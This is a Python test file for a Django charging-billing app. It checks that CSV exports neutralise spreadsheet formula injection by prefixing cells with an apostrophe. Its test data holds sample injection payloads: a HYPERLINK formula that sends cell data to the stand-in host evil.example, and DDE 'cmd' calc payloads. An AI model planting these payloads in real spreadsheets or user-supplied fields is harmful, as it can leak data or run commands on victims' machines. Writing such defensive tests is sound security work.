"""CSV exports neutralise cells a spreadsheet would run as a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from backoffice.csv_export import csv_writer, safe_cell
from billing.models import SessionCharge, StatementJob
from billing.statements import statement_generate, statement_path
from chargers.models import ChargingSession

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_cells_get_a_leading_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["04A1B2C3", "", "Garage = Nord", "a@b.example"])
def test_plain_text_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-5, Decimal("-3.50"), 1.5, "-3.50", "+7", "-0.001", "12", None])
def test_numbers_stay_numbers(value):
    assert safe_cell(value) == value


def test_the_writer_neutralises_every_cell_of_a_row():
    out = io.StringIO()
    csv_writer(out).writerow(["=1+1", 5, "ok", "-1"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", "5", "ok", "-1"]


@pytest.mark.django_db
def test_session_export_neutralises_an_id_tag_sent_by_a_charger(client, mine):
    evil = '=HYPERLINK("//ev.il"&A1)'  # an idTag fits in 36 characters
    ChargingSession.objects.filter(pk=mine.session.pk).update(id_tag=evil)
    mine.prop.name = "@Garage"
    mine.prop.save()
    client.force_login(mine.owner)
    response = client.get(reverse("chargers:session-export"))
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [r["id_tag"] for r in rows] == ["'" + evil]
    assert rows[0]["location"] == "'@Garage"
    assert rows[0]["energy_wh"] == "7000"


@pytest.mark.django_db
def test_statements_neutralise_location_names(mine):
    mine.prop.name = "=cmd|'/C calc'!A0"
    mine.prop.save()
    started = timezone.now() - timedelta(days=1)
    SessionCharge.objects.create(
        session=mine.session,
        organization=mine.org,
        currency="EUR",
        energy_wh=7000,
        started_at=started,
        subtotal=Decimal("2.10"),
        tax=Decimal("0"),
        total=Decimal("2.10"),
    )
    job = StatementJob.objects.create(
        organization=mine.org,
        kind=StatementJob.Kind.SESSIONS,
        date_from=timezone.localdate() - timedelta(days=7),
        date_to=timezone.localdate(),
    )
    statement_generate(job_id=job.pk)
    with open(statement_path(StatementJob.objects.get(pk=job.pk)), newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["property"] == "'=cmd|'/C calc'!A0"
    assert rows[0]["total"] == "2.10"
